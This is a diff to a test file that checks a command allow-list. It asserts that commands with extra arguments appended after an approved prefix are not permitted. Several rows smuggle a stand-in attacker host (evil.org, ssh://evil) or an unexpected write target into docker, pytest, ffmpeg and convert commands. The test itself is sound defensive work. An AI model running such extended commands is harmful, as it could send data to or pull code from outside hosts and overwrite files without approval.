@@ -1726,6 +1726,10 @@ describe('an allow of what was shown', () => {
 		['docker build', 'docker build https://evil.org/x.git'],
 		['pytest', 'pytest --mysql-mysqld=./x'],
 		['pytest', 'pytest --hosts=ssh://evil'],
+		['bazel test //...', 'bazel test //... --explain=src/a.txt'],
+		['docker build -t a .', 'docker build -t a . --sbom=generator=evil'],
+		['ffmpeg -i a.mp4 b.mp4', 'ffmpeg -i a.mp4 b.mp4 http://evil.org/x'],
+		['convert a.png b.png', 'convert a.png b.png src/a.png'],
 		['python3 -m pip install a', 'python3 -m pip install a b'],
 	])('makes and writes no more: %s is not %s', (words, command) => {
 		expect(verdict([allow(`~c "${words}"`)], command)).toBe('none');
